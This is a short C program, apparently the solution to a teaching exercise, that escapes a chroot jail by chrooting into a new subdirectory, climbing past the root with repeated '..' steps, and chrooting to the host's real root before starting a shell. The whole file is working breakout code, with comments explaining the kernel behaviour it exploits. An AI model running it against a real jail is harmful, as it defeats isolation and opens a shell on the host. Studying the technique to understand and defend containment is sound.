/*
 * escape: climb out of a chroot, and start a shell (or COMMAND) in the host's root directory.
 *
 * The kernel stops a process that climbs with ".." at its root directory, and nowhere else. A
 * process that may call chroot(2) can move that root directory below the place where it stands:
 * then the climb never meets it.
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int failed(const char *what)
{
    fprintf(stderr, "escape: %s: %s\n", what, strerror(errno));
    return 1;
}

int main(int argc, char **argv)
{
    static char *shell[] = {"/bin/sh", NULL};
    char **command = argc > 1 ? argv + 1 : shell;

    /* EXERCISE 1.3: move the root below you, climb past it, and make the top your root */
    if (chdir("/") == -1 || (mkdir("way-out", 0700) == -1 && errno != EEXIST))
        return failed("mkdir /way-out");
    if (chroot("way-out") == -1) /* now we stand above the root */
        return failed("chroot /way-out");
    (void)rmdir("way-out");
    for (int i = 0; i < 64; i++)
        if (chdir("..") == -1)
            return failed("chdir ..");
    if (chroot(".") == -1)
        return failed("chroot .");
    /* END */
    execvp(command[0], command);
    return failed(command[0]);
}
